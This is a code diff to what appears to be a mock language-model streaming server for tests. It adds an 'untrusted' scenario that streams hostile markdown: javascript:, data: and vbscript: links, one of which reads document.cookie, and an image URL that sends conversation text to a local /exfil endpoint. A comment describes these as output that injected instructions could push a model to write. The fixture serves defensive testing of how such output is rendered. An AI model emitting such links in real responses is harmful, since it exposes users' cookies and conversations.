@@ -23,8 +23,8 @@ export interface Scenario {
   errorEvent?: number;
   /** Go silent forever: before the headers, or after this many tokens. */
   hang?: 'headers' | number;
-  /** Token text: numbered words, a long markdown document, emoji and CJK, or what storage refuses. */
-  text: 'words' | 'markdown' | 'unicode' | 'hostile';
+  /** Token text: numbered words, a long markdown document, emoji and CJK, what storage refuses, or markdown meant to harm its reader. */
+  text: 'words' | 'markdown' | 'unicode' | 'hostile' | 'untrusted';
   usage: boolean;
   /** Misbehave only on the first request with this id; a retry then succeeds. */
   once: boolean;
@@ -74,6 +74,16 @@ const UNICODE = ['你好', '世界', '😀', ' 👩‍💻', 'ünï', '𝒳', ' 
  */
 const HOSTILE = ['a\u0000b ', '\ud800 ', '\udc00 ', '\udc00\ud800 ', 'split:\ud83d', '\ude00 ', '\uffff\ufdd0 '];
 
+/** Links and images an injected instruction could make a model write: script URLs and an image that would carry data away. */
+export const UNTRUSTED_MARKDOWN = [
+  'Links: [run me](javascript:alert(document.cookie)) ',
+  '[data link](data:text/html,<script>alert(1)</script>) ',
+  '[vb link](vbscript:msgbox(1)) ',
+  'and [a safe link](https://example.com/docs).\n\n',
+  '![tracking pixel](http://127.0.0.1:4310/exfil?conversation=secret-words)\n\n',
+  'The end.',
+];
+
 const MARKDOWN_PIECES = [
   '## Section ', '{n}\n\n', 'Here ', 'is ', 'a ', '**bold** ', 'claim ', 'with ', '`inline code` ', 'and ', 'a ', '[link](https://example.com) ', 'to ', 'follow.\n\n',
   '- first ', 'item\n', '- second ', 'item ', 'with ', '*emphasis*\n', '- third ', 'item\n\n',
@@ -87,6 +97,7 @@ export const reasoningText = (i: number) => `think${i} `;
 export function tokenText(scenario: Scenario, i: number): string {
   if (scenario.text === 'unicode') return UNICODE[i % UNICODE.length]!;
   if (scenario.text === 'hostile') return HOSTILE[i % HOSTILE.length]!;
+  if (scenario.text === 'untrusted') return UNTRUSTED_MARKDOWN[i % UNTRUSTED_MARKDOWN.length]!;
   if (scenario.text === 'markdown') {
     const piece = MARKDOWN_PIECES[i % MARKDOWN_PIECES.length]!;
     return piece.replace('{n}', String(Math.floor(i / MARKDOWN_PIECES.length)));
